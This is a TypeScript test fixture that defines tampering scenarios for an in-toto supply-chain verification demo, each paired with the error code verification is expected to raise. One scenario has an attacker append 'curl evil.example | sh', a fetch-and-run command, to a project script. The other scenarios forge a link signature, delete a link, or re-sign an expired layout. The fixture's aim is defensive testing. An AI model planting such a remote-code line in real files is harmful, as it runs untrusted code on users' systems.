import type { Scene } from './chain.ts';

interface Attack {
  readonly title: string;
  readonly scenes: readonly Scene[];
  /** The code under which verification has to report it. */
  readonly code: string;
}

/** Each is played on a fresh copy of the honest chain. */
export const ATTACKS: readonly Attack[] = [
  {
    title: 'a file is changed between two steps',
    code: 'ERR_RULE_DISALLOW',
    scenes: [
      { who: 'mallory', command: "echo 'curl evil.example | sh' >> ../frank/project/hello.sh" },
      {
        who: 'frank',
        command: `rm project.tgz &&
in-toto run --step-name archive --signing-key frank \\
  --materials project --products project.tgz \\
  --metadata-directory ../links/package.*/ \\
  -- tar czf project.tgz --exclude .git project && cp project.tgz ..`,
      },
    ],
  },
  {
    title: 'a link is signed by somebody else',
    code: 'ERR_LINK_THRESHOLD',
    scenes: [
      {
        who: 'mallory',
        command: `in-toto key new mallory &&
in-toto run --step-name clone --signing-key mallory --products project \\
  -- git clone -q ../upstream/project project &&
mv clone.*.link ../links/clone.*.link`,
      },
    ],
  },
  {
    title: 'a link is missing',
    code: 'ERR_LINK_NOT_FOUND',
    scenes: [
      {
        who: 'mallory',
        command: `carl=$(in-toto key id --short ../carl/carl.pub) &&
rm ../links/change-version.$carl.link`,
      },
    ],
  },
  {
    title: 'the layout has expired',
    code: 'ERR_LAYOUT_EXPIRED',
    scenes: [
      {
        who: 'owner',
        command: `sed 's/"expires": ".*"/"expires": "2020-02-29T00:00:00Z"/' \\
  root.layout > old.layout &&
in-toto sign --file old.layout --keys owner --output ../root.layout`,
      },
    ],
  },
];
